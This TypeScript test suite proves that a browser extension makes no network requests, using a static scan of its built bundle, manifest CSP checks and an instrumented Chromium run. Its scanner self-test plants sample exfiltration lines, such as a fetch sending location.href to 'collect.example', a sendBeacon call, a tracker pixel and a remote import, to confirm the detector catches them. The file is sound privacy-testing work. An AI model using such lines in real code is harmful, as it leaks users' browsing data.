// Privacy proof: the extension makes no network request of its own.
//
// 1. A static scan of the built bundle: no network API in the code, and no
//    http(s) address outside a short list of classes, each explained below.
// 2. A full run in Chromium (pages, notice, popup, lookup, options, import,
//    export, welcome page, a service-worker restart) with three independent
//    witnesses: Playwright's request log for the whole browser context (pages,
//    extension pages and the service worker), CDP `Network` on the service
//    worker, and the Content-Security-Policy violations the browser logs (an
//    attempt the CSP blocked is not a request, but it would still be a bug).
//    Any request that is not to the local test server or to our own files fails.
import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import type { CDPSession, Page } from 'playwright-core';
import { parseAst } from 'vite';
import { badgeText, DIST, launchWithExtension, stopServiceWorker, tabIdOf, until, type ExtensionBrowser } from './support/chromium';
import { startServer, type TestServer } from './support/server';
import { RULES } from '../../src/data/rules';

const ROOT = fileURLToPath(new URL('../../', import.meta.url));

// ------------------------------------------------------------ static scan

/** Browser APIs that open a connection. */
const NETWORK_APIS = ['fetch', 'XMLHttpRequest', 'WebSocket', 'sendBeacon', 'EventSource', 'importScripts', 'WebTransport', 'RTCPeerConnection'];
/** The same, as the literal text the issue names (a plain substring search, comments and strings included). */
const NETWORK_TOKENS = ['fetch(', 'XMLHttpRequest', 'WebSocket', 'sendBeacon', 'EventSource', 'importScripts'];

/**
 * The one network call allowed in the bundle, pinned to its exact shape:
 * Vite's `modulePreload` polyfill, injected into the chunk our extension
 * pages share. It only runs when the browser lacks `<link rel=modulepreload>`
 * (Chromium and Firefox have it, so it returns at once), and it only fetches
 * the `href` of such links — which, in our built HTML, are all our own
 * `/assets/` files (checked below). It could go: `build.modulePreload:
 * { polyfill: false }` in vite.config.ts; this check then still passes.
 */
const MODULEPRELOAD_POLYFILL = /^\(function\(\)\{let \w+=document\.createElement\(`link`\)\.relList;if\(\w+&&\w+\.supports&&\w+\.supports\(`modulepreload`\)\)return;for\(let \w+ of document\.querySelectorAll\(`link\[rel="modulepreload"\]`\)\)\w+\(\w+\);[\s\S]{0,700}?function \w+\((\w+)\)\{if\(\1\.ep\)return;\1\.ep=!0;let (\w+)=\w+\(\1\);fetch\(\1\.href,\2\)\}\}\)\(\);/;

function filesUnder(dir: string, ext: RegExp): string[] {
  if (!existsSync(dir)) return [];
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    return statSync(path).isDirectory() ? filesUnder(path, ext) : ext.test(name) ? [path] : [];
  });
}

/** Every http(s) URL in the bundled dataset: the sources shown as links in the popup (never fetched). */
function datasetUrls(): Set<string> {
  const urls = new Set<string>();
  JSON.parse(readFileSync(join(ROOT, 'src/data/providers.json'), 'utf8'), (_k, v: unknown) => {
    if (typeof v === 'string' && /^https?:\/\//.test(v)) urls.add(v);
    return v;
  });
  // The official texts of the rules inferred claims name (src/data/rules.ts), shown as links too.
  for (const rule of Object.values(RULES)) for (const s of rule.sources) urls.add(s.url);
  return urls;
}

/**
 * The classes of http(s) text allowed in the bundle. Anything else fails.
 * - dataset: the exact source URLs of src/data/providers.json and of the
 *   rules in src/data/rules.ts; the popup
 *   renders them as `<a href>` (https only), the person may follow them.
 * - w3c-namespace: XML namespace names Preact passes to createElementNS
 *   (identifiers, never loaded).
 * - match-pattern: `http://*\/*` and `https://*\/*`, host patterns for
 *   permissions.contains/request (Firefox asks for page access).
 * - scheme-only: a scheme with no address after it, in UI text ("Links
 *   must start with https://." in _locales) or in code that only compares
 *   with it (`url.startsWith('https://')`); never one used to build an address.
 * - host-parsing: a template literal `http://${…}` given to `new URL(…)` to
 *   read a hostname out of what a person typed (no request).
 * - comment: license or documentation links in comments (not code). There are
 *   none in today's minified bundle; they are listed when found.
 */
type UrlClass = 'dataset' | 'w3c-namespace' | 'match-pattern' | 'scheme-only' | 'host-parsing' | 'comment';
const W3C_NAMESPACES = new Set(['http://www.w3.org/2000/svg', 'http://www.w3.org/1999/xhtml', 'http://www.w3.org/1998/Math/MathML', 'http://www.w3.org/1999/xlink', 'http://www.w3.org/XML/1998/namespace']);
const MATCH_PATTERNS = new Set(['http://*/*', 'https://*/*']);
const URL_IN_TEXT = /https?:\/\/[^\s"'`<>\\]*/g;

function classifyUrl(url: string, dataset: Set<string>): UrlClass | null {
  if (dataset.has(url)) return 'dataset';
  if (W3C_NAMESPACES.has(url)) return 'w3c-namespace';
  if (MATCH_PATTERNS.has(url)) return 'match-pattern';
  if (/^https?:\/\/[.,;:!?)]*$/.test(url)) return 'scheme-only';
  return null;
}

interface AstNode {
  type: string;
  start: number;
  end: number;
  [key: string]: unknown;
}

function walkAst(node: unknown, visit: (n: AstNode, parent: AstNode | null) => void, parent: AstNode | null = null): void {
  if (!node || typeof node !== 'object') return;
  if (Array.isArray(node)) {
    for (const child of node) walkAst(child, visit, parent);
    return;
  }
  const n = node as AstNode;
  if (typeof n.type !== 'string') return;
  visit(n, parent);
  for (const [key, value] of Object.entries(n)) if (key !== 'type' && value && typeof value === 'object') walkAst(value, visit, n);
}

interface Finding {
  file: string;
  what: string;
  context: string;
}

const around = (code: string, start: number, end = start) => code.slice(Math.max(0, start - 60), Math.min(code.length, end + 60)).replace(/\s+/g, ' ');

/** Scans one built JS file: network APIs (AST and raw text) and URLs (string literals, templates, comments). */
function scanJs(file: string, code: string, dataset: Set<string>): { bad: Finding[]; allowed: Map<UrlClass | 'modulepreload-fetch', string[]> } {
  const rel = relative(DIST, file);
  const bad: Finding[] = [];
  const allowed = new Map<UrlClass | 'modulepreload-fetch', string[]>();
  const allow = (c: UrlClass | 'modulepreload-fetch', what: string) => allowed.set(c, [...(allowed.get(c) ?? []), what]);

  // The polyfill is allowed only as the first statement of a chunk, in exactly its known shape.
  const polyfill = MODULEPRELOAD_POLYFILL.exec(code);
  const polyfillEnd = polyfill ? polyfill[0].length : 0;
  const inPolyfill = (i: number) => i < polyfillEnd;

  // Raw text, as the issue asks: every occurrence must be the pinned polyfill call.
  for (const token of NETWORK_TOKENS) {
    for (let i = code.indexOf(token); i >= 0; i = code.indexOf(token, i + 1)) {
      if (token === 'fetch(' && inPolyfill(i)) allow('modulepreload-fetch', `${rel}: ${around(code, i, i + token.length)}`);
      else bad.push({ file: rel, what: `the text "${token}"`, context: around(code, i, i + token.length) });
    }
  }

  const ast = parseAst(code, { lang: 'js', sourceType: 'module' }) as unknown as AstNode;
  const literalRanges: [number, number][] = [];
  walkAst(ast, (n, parent) => {
    // Network APIs as identifiers, property names or computed-access strings (`self['fetch']`).
    const name = n.type === 'Identifier' ? (n.name as string) : n.type === 'Literal' && typeof n.value === 'string' ? n.value : null;
    if (name && NETWORK_APIS.includes(name) && !(name === 'fetch' && inPolyfill(n.start))) bad.push({ file: rel, what: `network API ${name} (${n.type})`, context: around(code, n.start, n.end) });
    // Dynamic import of anything but our own relative chunks would be remote code.
    if (n.type === 'ImportExpression') {
      const source = n.source as AstNode & { value?: unknown };
      if (!(source.type === 'Literal' && typeof source.value === 'string' && source.value.startsWith('./'))) bad.push({ file: rel, what: 'dynamic import()', context: around(code, n.start, n.end) });
    }
    if (n.type === 'Literal' && typeof n.value === 'string') literalRanges.push([n.start, n.end]);
    if (n.type === 'Literal' && (n as { regex?: unknown }).regex) literalRanges.push([n.start, n.end]);
    if (n.type === 'TemplateLiteral') {
      literalRanges.push([n.start, n.end]);
      const quasis = n.quasis as (AstNode & { value: { cooked: string | null } })[];
      const expressions = n.expressions as AstNode[];
      quasis.forEach((q, i) => {
        const text = q.value.cooked ?? '';
        for (const m of text.matchAll(URL_IN_TEXT)) {
          const url = m[0];
          // `http://${host}` inside `new URL(…)`: the scheme is only there to parse a hostname.
          const endsQuasi = m.index + url.length === text.length && i < expressions.length;
          if (endsQuasi) {
            if (/^https?:\/\/$/.test(url) && isInsideNewUrl(ast, n)) allow('host-parsing', `${rel}: ${around(code, n.start, n.end)}`);
            else bad.push({ file: rel, what: `URL built at run time: ${url}\${…}`, context: around(code, n.start, n.end) });
          } else {
            const c = classifyUrl(url, dataset);
            if (c) allow(c, url);
            else bad.push({ file: rel, what: `URL ${url}`, context: around(code, q.start, q.end) });
          }
        }
      });
    }
    if (n.type === 'Literal' && typeof n.value === 'string' && /^https?:\/\/$/.test(n.value)) {
      // A bare scheme is fine to compare with (`u.startsWith('https://')`), not to build an address with.
      const p = parent as (AstNode & { operator?: string; callee?: AstNode & { property?: AstNode & { name?: string } } }) | null;
      const compared = p?.type === 'BinaryExpression' && ['===', '!==', '==', '!='].includes(p.operator!);
      const tested = p?.type === 'CallExpression' && p.callee?.type === 'MemberExpression' && ['startsWith', 'endsWith', 'includes', 'indexOf'].includes(p.callee.property?.name ?? '');
      if (compared || tested) allow('scheme-only', n.value);
      else bad.push({ file: rel, what: `a bare scheme "${n.value}" used to build an address`, context: around(code, n.start, n.end) });
    } else if (n.type === 'Literal' && typeof n.value === 'string') {
      for (const m of n.value.matchAll(URL_IN_TEXT)) {
        const c = classifyUrl(m[0], dataset);
        if (c) allow(c, m[0]);
        else bad.push({ file: rel, what: `URL ${m[0]}`, context: around(code, n.start, n.end) });
      }
    }
  });

  // URLs outside every literal can only be in comments (a regex literal escapes its slashes).
  for (const m of code.matchAll(URL_IN_TEXT)) {
    const i = m.index;
    if (literalRanges.some(([s, e]) => i >= s && i < e)) continue;
    const before = code.slice(Math.max(0, code.lastIndexOf('\n', i)), i);
    const inComment = before.includes('//') || code.lastIndexOf('/*', i) > code.lastIndexOf('*/', i);
    if (inComment) allow('comment', m[0]);
    else bad.push({ file: rel, what: `URL ${m[0]} outside any string or comment`, context: around(code, i) });
  }
  return { bad, allowed };
}

/** True when `node` is (part of) the argument of a `new URL(...)` expression. */
function isInsideNewUrl(ast: AstNode, node: AstNode): boolean {
  let found = false;
  walkAst(ast, (n) => {
    if (found || n.type !== 'NewExpression') return;
    const callee = n.callee as AstNode & { name?: string };
    if (callee.type !== 'Identifier' || callee.name !== 'URL') return;
    const args = n.arguments as AstNode[];
    if (args.some((a) => a.start <= node.start && node.end <= a.end)) found = true;
  });
  return found;
}

/** The built directories to scan: ours, and dist-firefox beside the default dist. */
function builtDirs(): string[] {
  const dirs = [DIST];
  if (!process.env.SL_DIST && existsSync(join(ROOT, 'dist-firefox/manifest.json'))) dirs.push(join(ROOT, 'dist-firefox'));
  return dirs;
}

describe('privacy: the built bundle', { skip: existsSync(join(DIST, 'manifest.json')) ? false : `${DIST} is not built` }, () => {
  const dataset = datasetUrls();

  it('the scanner itself catches what it looks for', () => {
    const planted = [
      'fetch("https://collect.example/p?u="+location.href)',
      'navigator.sendBeacon(u,d)',
      'new XMLHttpRequest',
      'self["fetch"](x)',
      'new WebSocket(`wss://x.example`)',
      'import(`https://cdn.example/m.js`)',
      'const u="http://tracker.example/a.gif"',
      'const t=`https://${h}/collect`',
      'img.src="https://"+h+"/p.gif"',
      '(function(){let e=document.createElement(`link`).relList;fetch(e.href)})();',
    ];
    for (const code of planted) assert.notDeepEqual(scanJs(join(DIST, 'planted.js'), code, dataset).bad, [], `caught: ${code}`);
    assert.deepEqual(scanJs(join(DIST, 'fine.js'), 'let n=new URL(`http://${t.trim()}/`).hostname;const s=`http://www.w3.org/2000/svg`;u.startsWith("https://");', dataset).bad, []);
  });

  for (const dir of builtDirs()) {
    it(`${relative(ROOT, dir) || dir}: no network API and no remote address outside the allowed classes`, () => {
      const files = filesUnder(dir, /\.(m?js)$/);
      assert.ok(files.length > 3, 'the bundle has JS files');
      const bad: Finding[] = [];
      const allowed = new Map<string, Set<string>>();
      for (const file of files) {
        const result = scanJs(file, readFileSync(file, 'utf8'), dataset);
        bad.push(...result.bad);
        for (const [c, list] of result.allowed) allowed.set(c, new Set([...(allowed.get(c) ?? []), ...list]));
      }
      assert.deepEqual(bad, [], 'network APIs or remote URLs in the bundle');
      // The exceptions stay as narrow as described: at most one polyfill fetch per chunk that carries it.
      assert.ok((allowed.get('modulepreload-fetch')?.size ?? 0) <= 1, `the modulepreload polyfill once at most (${[...(allowed.get('modulepreload-fetch') ?? [])].join(' | ')})`);
      assert.ok((allowed.get('host-parsing')?.size ?? 0) <= 3, 'a few host-parsing templates only');
      // The content script, which runs in every page, carries no address at all: the dataset's
      // sources are stripped from it at build time; only namespace names or a bare scheme may remain.
      for (const f of files.filter((file) => /(^|\/)content\.js$/.test(file))) {
        const addresses = [...readFileSync(f, 'utf8').matchAll(URL_IN_TEXT)].map((m) => m[0]).filter((u) => !['w3c-namespace', 'scheme-only'].includes(classifyUrl(u, new Set()) ?? ''));
        assert.deepEqual(addresses, [], `no address in ${relative(dir, f)}`);
      }
      if (allowed.get('comment')?.size) console.log(`URLs in comments of ${dir}:`, [...allowed.get('comment')!]);
    });

    it(`${relative(ROOT, dir) || dir}: HTML, CSS and JSON load nothing from outside`, () => {
      const bad: Finding[] = [];
      for (const file of filesUnder(dir, /\.(html|css|json)$/)) {
        const text = readFileSync(file, 'utf8');
        for (const m of text.matchAll(URL_IN_TEXT)) if (!classifyUrl(m[0], dataset)) bad.push({ file: relative(dir, file), what: m[0], context: around(text, m.index) });
        if (file.endsWith('.html')) {
          // Scripts, styles and preloads are our own files.
          for (const m of text.matchAll(/\s(?:src|href)="([^"]*)"/g)) if (!/^\/(assets|src)\/|^\.{0,2}\//.test(m[1]!)) bad.push({ file: relative(dir, file), what: `src/href ${m[1]}`, context: around(text, m.index) });
          for (const m of text.matchAll(/<link rel="modulepreload"[^>]*href="([^"]*)"/g)) if (!m[1]!.startsWith('/assets/')) bad.push({ file: relative(dir, file), what: `modulepreload ${m[1]}`, context: m[0] });
        }
        if (file.endsWith('.css') && /@import|url\(\s*['"]?(https?:|\/\/)/i.test(text)) bad.push({ file: relative(dir, file), what: 'remote CSS import or url()', context: '' });
      }
      assert.deepEqual(bad, []);
    });
  }

  it('the manifest forbids connections and remote code on extension pages', () => {
    const manifest = JSON.parse(readFileSync(join(DIST, 'manifest.json'), 'utf8'));
    const csp: string = manifest.content_security_policy.extension_pages;
    const directives = new Map(csp.split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([k, ...v]) => [k!, v]));
    assert.deepEqual(directives.get('default-src'), ["'self'"], 'images, styles, fonts and frames from our own files only');
    assert.deepEqual(directives.get('script-src'), ["'self'"]);
    assert.deepEqual(directives.get('connect-src'), ["'none'"]);
    assert.deepEqual(directives.get('object-src'), ["'none'"]);
    assert.doesNotMatch(csp, /unsafe-eval|unsafe-inline|wasm-unsafe-eval|https?:/);
    assert.equal(manifest.externally_connectable, undefined, 'no web page or other extension may connect');
    // Host permissions reach no further than the content script (webRequest needs them, for hosting detection).
    assert.deepEqual(manifest.host_permissions, manifest.content_scripts[0].matches);
    for (const p of ['webRequestBlocking', 'tabs', 'history', 'cookies', 'webNavigation', 'declarativeNetRequest']) assert.ok(!manifest.permissions.includes(p), `no ${p} permission`);
  });
});

// ------------------------------------------------------------ full run

let ext: ExtensionBrowser;
let server: TestServer;
let downloads: string;
/** What the service worker's CDP Network domain saw (every attachment). */
const workerRequests: string[] = [];
/** CSP violations and blocked connections, from the worker's log and every page's console. */
const blocked: string[] = [];
let watcher: CDPSession | null = null;

const html = (body: string) => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>t</title></head><body>${body}</body></html>`;
const CSP_VIOLATION = /Content Security Policy|Refused to (connect|load)|net::ERR_BLOCKED/i;

/** Attaches CDP Network + Log to our service worker, now and after each restart (targets are discovered browser-wide). */
async function watchWorker(page: Page): Promise<void> {
  const cdp = await ext.ctx.newCDPSession(page);
  watcher = cdp;
  const attached = new Set<string>();
  let id = 0;
  const attach = async (targetId: string) => {
    if (attached.has(targetId)) return;
    attached.add(targetId);
    const { sessionId } = await cdp.send('Target.attachToTarget', { targetId, flatten: false });
    const sendTo = (method: string) => cdp.send('Target.sendMessageToTarget', { sessionId, message: JSON.stringify({ id: ++id, method, params: {} }) });
    await sendTo('Network.enable');
    await sendTo('Log.enable');
  };
  cdp.on('Target.receivedMessageFromTarget', (e) => {
    const m = JSON.parse(e.message) as { method?: string; params?: Record<string, any> };
    if (m.method === 'Network.requestWillBeSent') workerRequests.push(m.params!.request.url);
    if (m.method === 'Log.entryAdded' && CSP_VIOLATION.test(m.params!.entry.text)) blocked.push(`worker: ${m.params!.entry.text}`);
  });
  const ours = (t: { type: string; url: string }) => t.type === 'service_worker' && t.url.startsWith(`chrome-extension://${ext.extensionId}/`);
  cdp.on('Target.targetCreated', ({ targetInfo }) => void (ours(targetInfo) ? attach(targetInfo.targetId).catch(() => undefined) : undefined));
  // A stopped worker's target goes away (its id may come back with the next start).
  cdp.on('Target.targetDestroyed', ({ targetId }) => attached.delete(targetId));
  cdp.on('Target.detachedFromTarget', ({ targetId }) => void (targetId && attached.delete(targetId)));
  await cdp.send('Target.setDiscoverTargets', { discover: true });
  const { targetInfos } = await cdp.send('Target.getTargets');
  for (const t of targetInfos.filter(ours)) await attach(t.targetId);
}

/** A custom provider with an https source, as a person would import it. */
const ZETA = {
  id: 'zeta-cloud',
  name: 'Zeta Cloud',
  domains: ['zeta-cloud.example'],
  aliases: ['Zeta Cloud'],
  weakAliases: [],
  jurisdiction: { entity: 'Zeta SAS', hq: 'FR', parent: null, parentHq: null, reason: { en: 'French company.', fr: 'Société française.' }, sources: [{ url: 'https://zeta-cloud.example/about', title: 'About Zeta', verified: '2025-01-15' }] },
  cloudAct: { status: 'not-exposed', laws: [], reason: { en: 'No US parent.', fr: 'Pas de maison mère américaine.' }, sources: [{ url: 'https://zeta-cloud.example/legal', title: 'Zeta legal', verified: '2025-01-15' }] },
  hds: { status: 'unknown', activities: [], certificateId: null, certifier: null, version: null, validUntil: null, reason: { en: 'Not verified yet.', fr: 'Pas encore vérifié.' }, sources: [] },
  secnumcloud: { status: 'unknown', services: [], reason: { en: 'Not verified yet.', fr: 'Pas encore vérifié.' }, sources: [] },
};

describe('privacy: a full run makes no request of its own (Chromium)', () => {
  before(async () => {
    server = await startServer();
    downloads = await mkdtemp(join(tmpdir(), 'sl-privacy-'));
    ext = await launchWithExtension();
    ext.ctx.on('console', (msg) => {
      if (CSP_VIOLATION.test(msg.text())) blocked.push(`${msg.location().url}: ${msg.text()}`);
    });
    const page = await ext.ctx.newPage();
    await page.goto(`chrome-extension://${ext.extensionId}/src/welcome/index.html`);
    await watchWorker(page);
  });
  after(async () => {
    await watcher?.detach().catch(() => undefined);
    await ext?.close();
    await server?.close();
    await rm(downloads, { recursive: true, force: true });
  });

  it('the witnesses work: a request of the worker to its own files is seen by both', async () => {
    const sw = await ext.worker();
    const url = `chrome-extension://${ext.extensionId}/manifest.json`;
    assert.equal(await sw.evaluate(async (u) => (await fetch(u)).status, url), 200);
    await until(() => workerRequests.includes(url), 'CDP Network on the worker sees the canary');
    await until(() => ext.requests.includes(url), 'the context request log sees the canary');
    // And the CSP really blocks the worker from going out (the attempt is logged, nothing is sent).
    const out = await sw.evaluate(async (u) => fetch(u).then(() => 'sent', (e: Error) => `blocked: ${e.message}`), `${server.origin}/canary`);
    assert.match(out, /^blocked/);
    await until(() => blocked.some((b) => b.includes('/canary')), 'the blocked canary in the worker log');
    blocked.length = 0;
  });

  it('pages, notice, popup, lookup, report, options, import, export, welcome page and a worker restart', async () => {
    // Pages: a provider named, the notice, an SPA route change.
    const url = server.page('/news.html', html('<main id="app"><p>Our CRM runs on Amazon Web Services; backups at Scaleway.</p></main><script>window.go = () => { history.pushState({}, "", "/news-2.html"); document.getElementById("app").textContent = "Now on Zeta Cloud."; };</script>'));
    const page = await ext.ctx.newPage();
    await page.goto(url);
    const tabId = await tabIdOf(ext, url);
    await until(async () => (await badgeText(ext, tabId)) === '2', 'badge 2');
    await page.locator('[data-sovereignty-lens="warning"]').waitFor({ state: 'attached' });
    await page.locator('[data-sovereignty-lens="warning"] >> button[data-action="details"]').click();

    // Popup for that tab: cards with their source links (not followed), and a lookup.
    const popup = await ext.ctx.newPage();
    await popup.goto(`chrome-extension://${ext.extensionId}/src/popup/index.html?tab=${tabId}`);
    await until(async () => (await popup.locator('[data-provider-id]').count()) >= 2, 'popup cards');
    await popup.locator('[data-provider-id] details').evaluateAll((ds) => ds.forEach((d) => ((d as HTMLDetailsElement).open = true)));
    assert.ok((await popup.locator('a[href^="https://"]').count()) > 0, 'source links are shown');
    const input = popup.locator('[data-testid="lookup-input"]');
    await input.focus();
    await popup.keyboard.type('clever');
    await until(async () => (await input.getAttribute('aria-expanded')) === 'true', 'lookup options');
    await popup.keyboard.press('ArrowDown');
    await popup.keyboard.press('Enter');
    await popup.locator('[data-lookup-result] [data-provider-id="clever-cloud"]').waitFor();
    // The cited report of the page (when this build has it).
    if (existsSync(join(DIST, 'src/report/index.html'))) {
      const [reportPage] = await Promise.all([ext.ctx.waitForEvent('page'), popup.locator('[data-testid="open-report"]').click()]);
      await until(() => reportPage.locator('#report a[href^="https://"]').count(), 'the report with its cited sources');
      await reportPage.close();
    }

    // Options: import a file, apply it, export it again.
    const options = await ext.ctx.newPage();
    await options.goto(`chrome-extension://${ext.extensionId}/src/options/index.html`);
    await options.locator('[data-testid="add-provider"]').waitFor();
    const importFile = join(downloads, 'import.json');
    await writeFile(importFile, JSON.stringify({ format: 'sovereignty-lens/providers', version: 1, providers: [ZETA] }));
    await options.locator('[data-testid="import-input"]').setInputFiles(importFile);
    await options.locator('[data-testid="import-preview"] [data-testid="import-apply"]').click();
    await options.locator('[data-custom-provider-id="zeta-cloud"]').waitFor();
    const [download] = await Promise.all([options.waitForEvent('download'), options.locator('[data-testid="export-button"]').click()]);
    const exported = JSON.parse(readFileSync(await download.path(), 'utf8')) as { providers: { id: string }[] };
    assert.deepEqual(exported.providers.map((p) => p.id), ['zeta-cloud']);

    // The page's SPA route names the imported provider.
    await page.evaluate(() => (window as unknown as { go(): void }).go());
    await until(async () => (await badgeText(ext, tabId)) === '1', 'badge 1 (Zeta Cloud) after the route change');

    // The worker is stopped and starts again for the next page; the CDP witness stays on it
    // (Chromium keeps the worker's DevTools target across restarts; any new target is attached on discovery).
    await (await ext.worker()).evaluate(() => ((self as unknown as { __marker: number }).__marker = 1));
    await stopServiceWorker(ext);
    await page.goto(url);
    await until(async () => (await badgeText(ext, tabId)) === '2', 'badge again after a worker restart', 8000);
    const sw = await ext.worker();
    assert.equal(await sw.evaluate(() => (self as unknown as { __marker?: number }).__marker ?? null), null, 'a fresh worker');
    const canary = `chrome-extension://${ext.extensionId}/manifest.json?after-restart`;
    await sw.evaluate(async (u) => void (await fetch(u)), canary);
    await until(() => workerRequests.includes(canary), 'CDP Network still sees the restarted worker');

    // Leave the worker some time to do anything it might do in the background.
    await new Promise((r) => setTimeout(r, 1500));
    for (const p of [page, popup, options]) await p.close();
  });

  it('recorded no request except to the local test server and our own files, and no blocked attempt', () => {
    const own = `chrome-extension://${ext.extensionId}/`;
    const allowed = (u: string) =>
      u.startsWith(`${server.origin}/`) || u.startsWith(own) || u.startsWith(`blob:${own.slice(0, -1)}`) || u === 'about:blank' || u.startsWith('data:');
    const all = [...new Set([...ext.requests, ...workerRequests])];
    assert.ok(all.some((u) => u.startsWith(`${server.origin}/`)), 'the run did load pages');
    assert.ok(workerRequests.length > 0, 'CDP Network on the worker was live');
    assert.deepEqual(all.filter((u) => !allowed(u)), [], 'requests to anywhere else');
    assert.deepEqual(blocked, [], 'attempts blocked by a Content Security Policy');
  });
});
